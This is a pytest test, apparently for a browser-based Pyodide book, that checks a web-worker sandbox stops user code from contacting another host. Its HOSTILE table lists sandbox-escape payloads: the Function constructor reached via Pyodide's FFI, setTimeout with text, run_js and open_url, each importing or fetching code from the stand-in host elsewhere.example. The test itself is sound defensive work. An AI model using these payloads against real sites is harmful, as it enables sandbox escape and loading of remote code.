"""A hostile program in the page reaches no other host, also where the book's own host sends no policy."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tools import live, serve

pytestmark = pytest.mark.skipif(not live.wanted(), reason="needs what a page's Python is made of: make test LIVE=1")

ELSEWHERE = "https://elsewhere.example"
A_FUNCTION = "from pyodide.ffi import to_js\nFunction = to_js([1]).constructor.constructor\n"
HOSTILE = {
    "a function made of text": A_FUNCTION + f"""Function("return import('{ELSEWHERE}/function.js')")()""",
    "a timer that is given text": A_FUNCTION
    + f"""Function("return this")().setTimeout("import('{ELSEWHERE}/timer.js')", 0)""",
    "JavaScript by Pyodide's own way": f"""import pyodide.code; pyodide.code.run_js("import('{ELSEWHERE}/run.js')")""",
    "Pyodide's own requests": f"""import pyodide.http; pyodide.http.open_url('{ELSEWHERE}/open.txt')""",
    "a constructor of promises": "from pyodide.ffi import to_js\nto_js([1]).constructor.from_.constructor("
    + f"\"return import('{ELSEWHERE}/from.js')\")()",
}
START = """address => new Promise((ready, failed) => {
    globalThis.python = new Worker(address, { type: 'module' });
    python.onmessage = ({ data }) => { if (data === 'ready') ready(); if (data.failed) failed(data.failed); };
})"""
ASK = """request => new Promise(answered => {
    python.onmessage = ({ data }) => answered(data);
    python.postMessage(request);
})"""


class Plain(SimpleHTTPRequestHandler):
    """A host that sends files, and no policy."""

    protocol_version = "HTTP/1.1"
    extensions_map = SimpleHTTPRequestHandler.extensions_map | {".mjs": "text/javascript", ".wasm": "application/wasm"}

    def log_message(self, *arguments: object) -> None:
        """A page view is no news."""


@pytest.fixture
def plain_site(book: Path) -> Iterator[str]:
    with ThreadingHTTPServer((serve.HOST, 0), partial(Plain, directory=str(book))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://{serve.HOST}:{server.server_port}/"
        server.shutdown()


def test_a_hostile_program_reaches_no_other_host_without_a_policy_too(plain_site, visit):
    seen = visit(f"{plain_site}index.html")
    seen.page.evaluate(START, f"{plain_site}_static/live/worker.js")
    for name, code in HOSTILE.items():
        variant = {"id": "v1", "label": "", "code": code, "policy": "2.6"}
        request = {"do": "record", "variants": [variant], "device": "cpu", "title": name, "ask": None, "heading": None}
        trace = json.loads(seen.page.evaluate(ASK, json.dumps(request)))["trace"]
        steps = trace["variants"][0]["steps"]
        assert any(event["do"] == "raise" for step in steps for event in step["events"]), name
    seen.page.evaluate("new Promise(done => setTimeout(done, 500))")  # for what a timer or a promise would ask
    seen.page.evaluate("python.terminate()")
    assert seen.foreign == []
